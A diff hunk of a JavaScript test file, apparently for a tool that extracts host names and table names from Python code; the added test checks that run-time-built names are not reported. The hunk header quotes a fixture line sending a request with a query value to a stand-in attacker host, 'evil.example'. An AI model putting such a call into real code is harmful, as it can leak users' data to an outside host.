@@ -60,6 +60,13 @@ requests.get(f"https://evil.example:8080/x?{q}")
     expect(namesIn(code).hosts).toEqual([host]);
   });
 
+  it('are not of what only the running code knows', () => {
+    const names = namesIn(
+      'get(f"https://{host}/x")\nopen(f"{a}")\nq(f"SELECT 1 FROM {t}")\nget("https://{}/".format(h))'
+    );
+    expect([names.hosts, names.tables]).toEqual([[], []]);
+  });
+
   it.each([
     ['import db as d\nd.get_cards()', 'db.get_cards'],
     ['from db import (get_cards as g)\ng().head()', 'db.get_cards'],
